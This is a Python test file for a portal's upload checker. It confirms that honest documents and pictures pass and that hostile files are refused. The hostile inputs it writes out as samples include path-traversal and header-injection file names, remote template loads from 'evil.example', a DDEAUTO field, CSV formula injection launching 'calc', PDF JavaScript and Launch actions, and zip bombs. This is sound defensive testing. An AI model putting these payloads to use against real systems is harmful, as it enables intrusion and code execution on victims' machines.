"""What may be uploaded: every kind passes when it is honest, and each refusal has real bytes behind it."""

import io
import time
import zipfile
import zlib

import pytest
from PIL import Image

from iwg_portal.base.uploads import KINDS, Refused, check, names
from tests.base import uploading as make

HONEST = {
    "pdf": make.pdf("A law"),
    "docx": make.docx("A law"),
    "xlsx": make.xlsx(["State", "Level"], ["Ghana", 3]),
    "pptx": make.pptx(),
    "odt": make.opendocument("odt"),
    "ods": make.opendocument("ods"),
    "odp": make.opendocument("odp"),
    "csv": "State;Level\r\nBénin;3\r\n".encode("cp1252"),
    "txt": b"MZ is no program here, BM no picture.",
    "md": "# Loi n° 12\n\nArticle 1er".encode(),
    "png": make.picture("PNG"),
    "jpg": make.picture("JPEG"),
    "webp": make.picture("WEBP"),
}


def code(content, name):
    """The check that refuses the file; its sentence must be there, whatever the language."""
    with pytest.raises(Refused) as refusal:
        check(content, name)
    assert str(refusal.value).endswith(".")
    return refusal.value.code


@pytest.mark.parametrize("ending", HONEST)
def test_an_honest_file_of_each_kind_is_accepted(ending):
    found = check(HONEST[ending], f"Decree 12.{ending.upper()}")
    assert (found.name, found.kind.extension) == (f"Decree 12.{ending.upper()}", ending)


def test_the_list_of_kinds_is_the_one_above():
    assert set(HONEST) == set(KINDS)
    assert check(make.picture("JPEG"), "a.jpeg").kind.media_type == "image/jpeg"


@pytest.mark.parametrize(
    "name", ["a.exe", "a.pdf.exe", "a.html", "a.svg", "a.zip", "a.doc", "a", ".pdf", "a.js", "a.pdf "]
)
def test_other_endings_are_refused(name):
    if name in (".pdf", "a.pdf "):
        assert check(make.pdf("x"), name).kind.extension == "pdf" if name == "a.pdf " else code(b"x", name) == "kind"
    else:
        assert code(make.pdf("x"), name) == "kind"


@pytest.mark.parametrize("name", ["a.docm", "a.XLSM", "a.pptm", "a.dotm", "a.xltm"])
def test_kinds_with_macros_are_named_as_such(name):
    assert code(make.docx("x"), name) == "macros"


@pytest.mark.parametrize(("ending", "other"), [(a, b) for a in HONEST for b in HONEST if a != b])
def test_a_file_under_another_name_is_refused(ending, other):
    texts = {"csv", "txt", "md"}
    if ending in texts and other in texts:
        return
    assert code(HONEST[other], f"a.{ending}") in ("disguised", "damaged")


def test_programs_scripts_and_pages_under_an_honest_name():
    assert code(b"MZ\x90\x00\x03" + b"\0" * 500, "a.txt") == "disguised"
    assert code(b"<html><script>alert(1)</script>", "a.pdf") == "disguised"
    assert code(b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "a.png") == "disguised"
    assert code(b"\x7fELF" + b"\1" * 100, "a.csv") == "disguised"
    assert code(b"{\\rtf1 x}", "a.txt") == "disguised"


def test_empty_and_too_large(settings):
    assert code(b"", "a.txt") == "empty"
    settings.MAX_FILE_BYTES = 1024 * 1024
    assert code(b"x" * (1024 * 1024 + 1), "a.txt") == "size"


# -- Names ---------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("given", "safe"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\me\\Law 12.pdf", "Law 12.pdf"),
        ("law\x00.pdf\x00.exe", "law.pdf.exe"),
        ("law\u202efdp.exe", "lawfdp.exe"),
        ("\u2066law\u2069\u200b.pdf", "law.pdf"),
        ("a\r\nSet-Cookie: x.pdf", "a Set-Cookie_ x.pdf"),
        ('a"b<c>|?*.pdf', "a_b_c____.pdf"),
        ("...hidden.pdf", "hidden.pdf"),
        ("CON.pdf", "_CON.pdf"),
        ("law.pdf. . ", "law.pdf"),
        ("Décret n° 2024‑12 (Côte d’Ivoire).pdf", "Décret n° 2024‑12 (Côte d’Ivoire).pdf"),
        ("", "file"),
        ("///", "file"),
    ],
)
def test_names_are_safe_to_show(given, safe):
    assert names.safe_name(given) == safe


def test_a_long_name_keeps_its_ending():
    name = names.safe_name("é" * 300 + ".docx")
    assert len(name) == names.MAX_NAME
    assert name.endswith("é.docx")


@pytest.mark.parametrize(
    ("name", "header"),
    [
        ("law.pdf", 'attachment; filename="law.pdf"'),
        ("Décret.pdf", "attachment; filename=\"Decret.pdf\"; filename*=UTF-8''D%C3%A9cret.pdf"),
        ("法.pdf", "attachment; filename=\"file.pdf\"; filename*=UTF-8''%E6%B3%95.pdf"),
        ("50%;x.pdf", "attachment; filename=\"50x.pdf\"; filename*=UTF-8''50%25%3Bx.pdf"),
    ],
)
def test_the_name_in_the_header(name, header):
    assert names.disposition(name) == header


# -- Documents -----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "content",
    [
        make.docx(more={"word/vbaProject.bin": b"x"}),
        make.docx(main="wordprocessingml.document.main+xml.macroEnabled"),
        make.docx(more={"xl/macrosheets/sheet1.xml": "<x/>"}),
        make.docx(more={"word/_rels/document.xml.rels": make.relation("vbaProject", "x.bin")}),
    ],
)
def test_macros_are_refused(content):
    assert code(content, "a.docx") == "macros"


def test_macros_of_an_open_document():
    assert code(make.opendocument(more={"Basic/Standard/Module1.xml": "<x/>"}), "a.odt") == "macros"
    event = '<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:x"/>'
    assert code(make.opendocument(body=event), "a.odt") == "active"


@pytest.mark.parametrize(
    ("kind", "target", "refused"),
    [
        ("attachedTemplate", "https://evil.example/t.dotm", True),
        ("attachedTemplate", "HTTP://evil.example/t.dotm", True),
        ("attachedTemplate", "\\\\evil.example\\share\\t.dotm", True),
        ("attachedTemplate", "file://evil.example/t.dotm", True),
        ("attachedTemplate", "file:////evil.example/t.dotm", True),
        ("attachedTemplate", "file:///C:\\Users\\me\\Normal.dotm", False),
        ("oleObject", "mhtml:http://evil.example/x!x-usc:http://evil.example/x", True),
        ("image", "https://evil.example/seen.png", True),
        ("externalLinkPath", "Budget%202024.xlsx", False),
        ("hyperlink", "https://www.icao.int/", False),
    ],
)
def test_what_a_document_loads_from_elsewhere(kind, target, refused):
    content = make.docx("x", more={"word/_rels/settings.xml.rels": make.relation(kind, target)})
    if refused:
        assert code(content, "a.docx") == "external"
    else:
        check(content, "a.docx")


def test_what_an_open_document_loads_from_elsewhere():
    image = '<draw:image xlink:href="{}"/>'
    assert code(make.opendocument(body=image.format("https://evil.example/seen.png")), "a.odt") == "external"
    assert code(make.opendocument(body=image.format("//evil.example/seen.png")), "a.odt") == "external"
    check(make.opendocument(body=image.format("Pictures/one.png")), "a.odt")
    check(make.opendocument(body='<text:a xlink:href="https://www.icao.int/">ICAO</text:a>'), "a.odt")


def test_fields_and_controls_that_act():
    field = '<w:p><w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\x.exe "y" </w:instrText></w:r></w:p>'
    assert code(make.docx(body=field), "a.docx") == "active"
    load = '<w:p><w:r><w:instrText> INCLUDEPICTURE "https://evil.example/x.png" </w:instrText></w:r></w:p>'
    assert code(make.docx(body=load), "a.docx") == "external"
    assert code(make.docx(more={"word/activeX/activeX1.xml": "<x/>"}), "a.docx") == "active"
    assert code(b"Name;Value\n=cmd|'/C calc'!A0;1\n", "a.csv") == "active"


def test_definitions_and_another_coding_of_the_markup():
    assert code(make.docx(more={"word/x.xml": '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'}), "a.docx") == "active"
    hidden = "<x/>".encode("utf-16")
    assert code(make.docx(more={"word/x.xml": hidden}), "a.docx") == "damaged"


def test_files_inside_a_document():
    inside = "word/embeddings/"
    check(make.docx(more={f"{inside}chart.xlsx": make.xlsx(["a", 1])}), "a.docx")
    deeper = make.docx(more={f"{inside}a.docx": make.docx("x")})
    assert code(make.docx(more={f"{inside}b.docx": deeper}), "a.docx") == "nested"
    bad = make.docx(more={"word/vbaProject.bin": b"x"})
    assert code(make.docx(more={f"{inside}a.docx": bad}), "a.docx") == "macros"
    for name, first in (("oleObject1.bin", bytes.fromhex("d0cf11e0a1b11ae1")), ("x.bin", b"MZ\x90"), ("y", b"PK\3\4")):
        assert code(make.docx(more={f"{inside}{name}": first + b"\0" * 100}), "a.docx") == "nested"


def test_protected_documents():
    ole = bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 600
    assert code(ole + "EncryptedPackage".encode("utf-16-le"), "a.docx") == "protected"
    assert code(ole, "a.docx") == "older"
    manifest = "<manifest><manifest:encryption-data x='1'/></manifest>"
    assert code(make.opendocument(manifest=manifest), "a.odt") == "protected"
    locked = bytearray(make.docx("x"))
    start = locked.index(b"PK\x01\x02")
    locked[start + 8] |= 1
    assert code(bytes(locked), "a.docx") == "protected"


def test_bombs():
    assert code(make.docx(more={"word/media/a.xml": b" " * 30_000_000}), "a.docx") == "bomb"
    many = {f"word/x{n}.xml": "<x/>" for n in range(5_001)}
    assert code(make.docx(more=many), "a.docx") == "bomb"
    content = make.docx("x" * 2000)
    # two names for the same bytes: a small archive that unpacks many times
    twice = bytearray(content)
    first = twice.index(b"PK\x01\x02")
    second = twice.index(b"PK\x01\x02", first + 4)
    twice[second + 42 : second + 46] = (1).to_bytes(4, "little")
    assert code(bytes(twice), "a.docx") in ("bomb", "damaged")


def test_two_files_in_one():
    content = make.pdf("A law")
    assert code(content + make.docx("x"), "a.pdf") == "disguised"
    target = io.BytesIO(content)
    with zipfile.ZipFile(target, "a") as book:
        book.writestr("x.html", "<script>alert(1)</script>")
    assert code(target.getvalue(), "a.pdf") == "disguised"
    assert code(content + b"<html>" * 300, "a.pdf") == "disguised"
    assert code(make.docx("x" * 5000) + b"<script>", "a.docx") == "damaged"
    assert code(make.docx("x") + b"%PDF-1.7", "a.docx") == "disguised"
    assert code(b"%PDF-1.7 " + make.docx("x"), "a.docx") == "disguised"
    assert code(make.docx("x")[:-30], "a.docx") == "damaged"


def test_bytes_of_a_picture_that_look_like_text_are_no_obstacle():
    """A backslash before a digit that is none of the octal ones stands there by chance."""
    assert check(make.pdf("A law", objects=[make.stream(rb"BT (\8 \9 \101) Tj ET", pack=False)]), "a.pdf")


def test_names_in_the_properties_are_emptied():
    kept = check(make.docx("A law", author="canary-author"), "a.docx").content
    with zipfile.ZipFile(io.BytesIO(kept)) as book:
        everything = b"".join(book.read(name) for name in book.namelist())
        assert b"A law" in book.read("word/document.xml")
    assert b"canary-author" not in everything
    assert b"<dc:title>Law</dc:title>" in everything
    kept = check(make.xlsx(["a"], author="canary-author"), "a.xlsx").content
    with zipfile.ZipFile(io.BytesIO(kept)) as book:
        assert b"canary-author" not in b"".join(book.read(name) for name in book.namelist())
    kept = check(make.opendocument(), "a.odt").content
    with zipfile.ZipFile(io.BytesIO(kept)) as book:
        assert book.namelist()[0] == "mimetype"
        assert book.getinfo("mimetype").compress_type == zipfile.ZIP_STORED
        assert b"False Example" not in book.read("meta.xml")


def test_a_signed_document_stays_to_the_byte():
    content = make.docx("x", author="A. Notary", more={"_xmlsignatures/sig1.xml": "<x/>"})
    assert check(content, "a.docx").content == content


# -- PDF -----------------------------------------------------------------------------------------------------------

HIDDEN = make.stream(b"5 0 << /S /JavaScript /JS (app.alert) >>", "/Type /ObjStm /N 1 /First 4 ")


@pytest.mark.parametrize(
    ("content", "why"),
    [
        (make.pdf("x", catalog="/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> "), "active"),
        (make.pdf("x", catalog="/OpenAction << /S /J#61vaScript /J#53 (x) >> "), "active"),
        (make.pdf("x", catalog="/OpenAction << /S /Launch /F (cmd.exe) >> "), "active"),
        (make.pdf("x", catalog="/AcroForm << /XFA 9 0 R >> "), "active"),
        (make.pdf("x", catalog="/Names << /EmbeddedFiles 9 0 R >> "), "nested"),
        (make.pdf("x", objects=[make.stream(b"MZ", "/Type /EmbeddedFile ")]), "nested"),
        (make.pdf("x", objects=[HIDDEN]), "active"),
        (make.pdf("x", objects=[HIDDEN.replace(b"/ObjStm", b"/Obj#53tm")]), "active"),
        (
            make.pdf("x", objects=[make.stream(b"414243>", "/Type /ObjStm /Filter /ASCIIHexDecode ", pack=False)]),
            "unusual",
        ),
        (make.pdf("x", objects=[make.stream(b"x", "/Type /ObjStm ")[:-15] + b"endstream"]), "unusual"),
        (make.pdf("x", trailer="/Encrypt 9 0 R "), "protected"),
        (make.pdf("x")[:-8], "damaged"),
        (b"\n\n" + make.pdf("x"), "disguised"),
    ],
)
def test_pdf_that_acts_carries_or_hides(content, why):
    assert code(content, "a.pdf") == why


def test_a_pdf_with_links_and_packed_objects_is_accepted():
    link = b"<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://www.icao.int/) >> >>"
    harmless = make.stream(b"5 0 << /Type /Font /BaseFont /Helvetica >>", "/Type /ObjStm /N 1 /First 4 ")
    check(make.pdf("x", objects=[link, harmless], catalog="/OpenAction [3 0 R /Fit] "), "a.pdf")


def test_compressed_bytes_that_spell_a_short_name_by_chance_are_no_action():
    packed = zlib.compress(b"any bytes /JS any bytes", 0)
    drawing = b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(packed), packed)
    assert b"/JS" in drawing
    check(make.pdf("x", objects=[drawing, make.stream(b"a picture")]), "a.pdf")
    hidden = b"<< /AcroForm << /XFA 9 0 R >> >>\nendobj\n9 0 obj\n" + make.stream(b"x")
    assert code(make.pdf("x", objects=[drawing, hidden]), "a.pdf") == "active"


def test_a_pdf_that_unpacks_to_gigabytes_costs_seconds_at_most():
    bomb = make.stream(b"\0" * 50_000_000)
    start = time.monotonic()
    check(make.pdf("x", objects=[bomb] * 12), "a.pdf")
    assert time.monotonic() - start < 12


# -- Pictures ------------------------------------------------------------------------------------------------------


def test_place_device_and_author_are_gone_and_the_picture_stands_upright():
    content = make.photograph()
    assert b"canary-gps" in content
    assert b"canary-comment" in content
    kept = check(content, "a.jpg").content
    assert b"canary" not in kept
    with Image.open(io.BytesIO(kept)) as picture:
        assert picture.size == (4, 6)
        assert not picture.getexif()


@pytest.mark.parametrize(("name", "ending"), [("PNG", "png"), ("WEBP", "webp"), ("JPEG", "jpg")])
def test_what_hangs_behind_a_picture_is_gone(name, ending):
    kept = check(make.picture(name) + b"<script>canary</script>", f"a.{ending}").content
    assert b"canary" not in kept


@pytest.mark.parametrize("mode", ["1", "L", "LA", "P", "RGB", "RGBA", "I;16"])
def test_pictures_of_every_depth(mode):
    check(make.picture("PNG", mode=mode), "a.png")


def test_printing_colours():
    check(make.picture("JPEG", mode="CMYK"), "a.jpg")


def test_a_picture_of_too_many_dots_is_not_decoded():
    content = make.picture("PNG", size=(8000, 6000), mode="1")
    assert len(content) < 20_000
    assert code(content, "a.png") == "pixels"
    assert code(make.picture("PNG", size=(20_000, 15_000), mode="1"), "a.png") == "pixels"


def test_moving_and_broken_pictures():
    second = Image.new("RGB", (6, 4), "white")
    moving = make.picture("WEBP", save_all=True, append_images=[second], duration=100)
    assert code(moving, "a.webp") == "animated"
    moving = make.picture("PNG", save_all=True, append_images=[second], duration=100)
    assert code(moving, "a.png") == "animated"
    assert code(make.picture("PNG")[:50], "a.png") == "damaged"
